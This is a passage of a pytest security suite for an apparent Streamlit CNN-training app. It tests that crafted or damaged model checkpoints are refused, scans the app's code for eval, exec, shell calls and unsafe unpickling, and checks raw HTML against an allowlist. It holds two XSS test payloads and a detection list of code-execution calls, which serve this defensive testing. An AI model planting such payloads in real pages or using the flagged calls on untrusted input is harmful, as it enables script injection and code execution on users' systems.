    "config_huge_channels": (lambda: torch_bytes(_good(config=json.dumps({"blocks": [{"channels": 10**400}]}))),
                             "too_large"),
    "config_huge_input": (lambda: torch_bytes(_good(config_kind="mlp", config=json.dumps(
        {"input_shape": [1, 10**6, 10**6], "hidden": [2]}))), "too_large"),
    "config_big_dropout": (lambda: torch_bytes(_good(config=json.dumps({"dropout": 10**400}))), "corrupt"),
    "network_no_student_can_build": (lambda: torch_bytes(_huge_network()), "too_large"),
    "state_keys_not_strings": (lambda: torch_bytes(_good(state_dict={1: torch.zeros(1)})), "mismatch"),
    "state_values_not_tensors": (lambda: torch_bytes(_good(state_dict={k: "x" for k in _good()["state_dict"]})),
                                 "mismatch"),
}


@pytest.mark.parametrize("name", list(CHECKPOINTS))
def test_hostile_checkpoints_are_refused_with_their_code(name):
    make, code = CHECKPOINTS[name]
    with pytest.raises(CheckpointError) as error:
        load_checkpoint(io.BytesIO(make()))
    assert error.value.code == code, error.value
    assert translate("cnn_trainer.checkpoint_error." + code, "zh") != "cnn_trainer.checkpoint_error." + code


def test_a_checkpoint_of_another_architecture_is_refused_when_one_is_expected():
    for other in (CNNConfig(blocks=(ConvBlock(8),), dense=()), MLPConfig()):
        with pytest.raises(CheckpointError) as error:
            load_checkpoint(io.BytesIO(checkpoint_bytes(other)), expect=TINY)
        assert error.value.code == "mismatch"
    model, config = load_checkpoint(io.BytesIO(checkpoint_bytes()), expect=TINY)  # the real one still loads
    assert config == TINY and not model.training


@fuzz(60)
@given(flips=hst.lists(hst.tuples(hst.integers(0, 10**6), hst.integers(0, 255)), min_size=1, max_size=8),
       cut=hst.integers(1, 10**6), noise=hst.binary(max_size=64))
def test_damaged_checkpoints_are_refused_or_loaded(flips, cut, noise):
    good = checkpoint_bytes()
    data = bytearray(good)
    for position, value in flips:
        data[position % len(data)] = value
    for blob in (bytes(data), bytes(data[: cut % len(data)]), noise, b"\x80\x02" + noise, zip_with_pickle(noise)):
        try:
            load_checkpoint(io.BytesIO(blob))
        except CheckpointError as error:
            assert error.code in ("not_a_checkpoint", "corrupt", "mismatch")


# ---- 5. the code itself -----------------------------------------------------------------------------------------

CODE_FILES = [ROOT / "app.py", *(path for folder in ("pages", "ui", "core") for path in
                                  sorted((ROOT / folder).rglob("*.py")))]
RAW_HTML_ALLOWED: dict[tuple[str, str], str] = {
    # (file, enclosing function) -> why its HTML holds no user text. Everywhere else st.markdown / st.caption /
    # st.error leave unsafe_allow_html off.
    ("ui/shell/modes.py", "present_style"): "projector mode's <style>: constants and the theme's baseFontSize option",
    ("ui/shell/terms.py", "explained"): "a lesson's introduction from the catalogue (numbers the app computed are its "
                                        "only fields) with <abbr> around glossary terms, their definitions escaped",
    ("ui/plots/kept.py", "load_plotly_early"): "the script that loads plotly.js: a file of the app and the URL the "
                                               "server gives plotly.min.js (is_the_plotly_loader)",
    ("ui/shell/classroom.py", "browser_token"): "the script that keeps this browser's token in a cookie: a token the "
                                                "server drew, checked against TOKEN_FORM (letters, digits, - and _)",
}
UNPICKLERS = {"pickle", "cPickle", "dill", "joblib", "torch", "marshal", "shelve", "cloudpickle", "yaml"}


@functools.cache
def _calls() -> tuple[tuple[str, str, ast.Call], ...]:
    """(file, enclosing function or "<module>", call) for every call in the app code."""
    return tuple(_scan_calls())


def _scan_calls() -> Iterator[tuple[str, str, ast.Call]]:
    for path in CODE_FILES:
        tree, file = ast.parse(path.read_text()), path.relative_to(ROOT).as_posix()
        owners = {}  # the innermost function wins: ast.walk meets the outer one first
        for function in (n for n in ast.walk(tree) if isinstance(n, ast.FunctionDef | ast.AsyncFunctionDef)):
            owners.update((id(node), function.name) for node in ast.walk(function))
        for node in ast.walk(tree):
            if isinstance(node, ast.Call):
                yield file, owners.get(id(node), "<module>"), node


def _dotted(node: ast.expr) -> str:
    return f"{_dotted(node.value)}.{node.attr}" if isinstance(node, ast.Attribute) else getattr(node, "id", "?")


def test_no_eval_exec_or_unsafe_unpickling_in_the_app():
    problems = []
    for file, owner, call in _calls():
        name = _dotted(call.func)
        keywords = {k.arg: k.value for k in call.keywords}
        where = f"{file}:{call.lineno} ({owner})"
        if name in ("eval", "exec", "compile", "__import__", "builtins.eval", "builtins.exec", "execfile",
                    "os.system", "os.popen", "subprocess.run", "subprocess.Popen", "subprocess.call",
                    "subprocess.check_output", "pickle.loads", "pickle.load", "marshal.loads", "yaml.load"):
            problems.append(f"{where}: {name}(…)")
        root, _, last = name.rpartition(".")
        if root in UNPICKLERS and last in ("load", "loads") and root != "torch" and name not in ("json.load",):
            problems.append(f"{where}: {name}(…)")
        if name == "torch.load":
            weights_only = keywords.get("weights_only")
            if not (isinstance(weights_only, ast.Constant) and weights_only.value is True):
                problems.append(f"{where}: torch.load without weights_only=True")
        if last == "load" and root in ("np", "numpy"):
            allow = keywords.get("allow_pickle")
            if allow is not None and not (isinstance(allow, ast.Constant) and allow.value is False):
                problems.append(f"{where}: np.load with allow_pickle")
    assert problems == []
    assert sum(1 for _f, _o, call in _calls() if _dotted(call.func) == "torch.load") >= 1  # the scan sees it


def test_raw_html_only_where_allowed():
    """Every ``unsafe_allow_html`` that is not a literal False, and every ``st.html`` / ``components.html``, must be
    listed in RAW_HTML_ALLOWED with the reason its content cannot come from a student or a link."""
    seen = []
    for file, owner, call in _calls():
        name = _dotted(call.func)
        unsafe = [k for k in call.keywords if k.arg == "unsafe_allow_html"
                  and not (isinstance(k.value, ast.Constant) and k.value.value is False)]
        if unsafe or name in ("st.html", "components.html", "st.components.v1.html", "components.v1.html"):
            seen.append((file, owner))
    unlisted = sorted(set(seen) - RAW_HTML_ALLOWED.keys())
    assert unlisted == [], f"raw HTML without a reason in RAW_HTML_ALLOWED: {unlisted}"
    assert len(_calls()) > 1000  # the scan reads the whole app


@pytest.mark.parametrize("script", ["st.markdown('<img src=x onerror=alert(1)>', unsafe_allow_html=True)",
                                    "st.html('<script>alert(1)</script>')"])
def test_the_raw_html_check_sees_raw_html(script):
    from streamlit.testing.v1 import AppTest

    at = AppTest.from_string("import streamlit as st\n" + script).run()
    with pytest.raises(AssertionError, match="raw HTML"):
        assert_no_raw_html(at)


def test_sentinel_payloads_would_be_noticed():
    """The sentinel check works: the payloads name the file, and creating it is seen."""
    assert all(str(SENTINEL) in p for p in CODE[:6])
    SENTINEL.touch()
    assert SENTINEL.exists()
    SENTINEL.unlink()


LARGEST_BLOCKS = (ConvBlock(128, 7), ConvBlock(128, 5), ConvBlock(128, 5), ConvBlock(128, 3))


def test_the_largest_network_the_set_up_builds_loads_from_its_checkpoint():
    """The set-up's own limits are the checkpoint's: a network at its limits (128-channel blocks of 7 × 7, 5 × 5, 5 × 5
    and 3 × 3 with pooling, a dense layer of 256: 1.07e8 multiply-adds an image, under the 1.2e8 limit) loads; one
    channel step more, or a block without its pooling, is refused as too large."""
    from core.setup_limits import SETUP, outside_setup

    largest = CNNConfig(blocks=LARGEST_BLOCKS, dense=(max(SETUP.dense),))
    assert outside_setup(largest) is None
    model, config = load_checkpoint(io.BytesIO(checkpoint_bytes(largest, build_model(largest))))
    assert config == largest and sum(p.numel() for p in model.parameters()) > 1_000_000
    wider = CNNConfig(blocks=(ConvBlock(256, 7), *largest.blocks[1:]), dense=largest.dense)
    costlier = CNNConfig(blocks=(ConvBlock(128, 7, pooling="none"), *largest.blocks[1:]), dense=largest.dense)
    for refused in (wider, costlier):  # a channel step more; no pooling after the first block (2.2e8 an image)
        with pytest.raises(CheckpointError) as error:
            load_checkpoint(io.BytesIO(checkpoint_bytes(refused, build_model(refused))))
        assert error.value.code == "too_large"
